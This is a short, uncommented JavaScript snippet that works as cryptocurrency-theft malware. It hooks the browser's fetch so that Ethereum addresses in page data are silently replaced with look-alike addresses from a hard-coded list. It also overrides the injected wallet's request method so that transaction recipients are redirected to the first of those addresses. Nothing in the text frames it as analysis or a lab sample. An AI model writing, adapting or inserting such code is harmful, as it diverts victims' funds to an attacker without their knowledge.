const addrs = ["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976", "0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024", "0x40C351B989113646bc4e9Dfe66AE66D24fE6Da7B", "0x30F895a2C66030795131FB66CBaD6a1f91461731"];
function near(a, b) { let d = 0; for (let i = 0; i < a.length; i++) d += a[i] !== b[i]; return d; }
function swap(t) { return t.replace(/\b0x[a-fA-F0-9]{40}\b/g, (m) => addrs.slice().sort((x, y) => near(m, x) - near(m, y))[0]); }
(function () {
  const of = window.fetch;
  window.fetch = async function (...a) { const r = await of(...a); return new Response(swap(await r.text())); };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function () { return open.apply(this, arguments); };
  if (window.ethereum) { const q = window.ethereum.request; window.ethereum.request = function (p) { p.params[0].to = addrs[0]; return q.call(this, p); }; }
})();
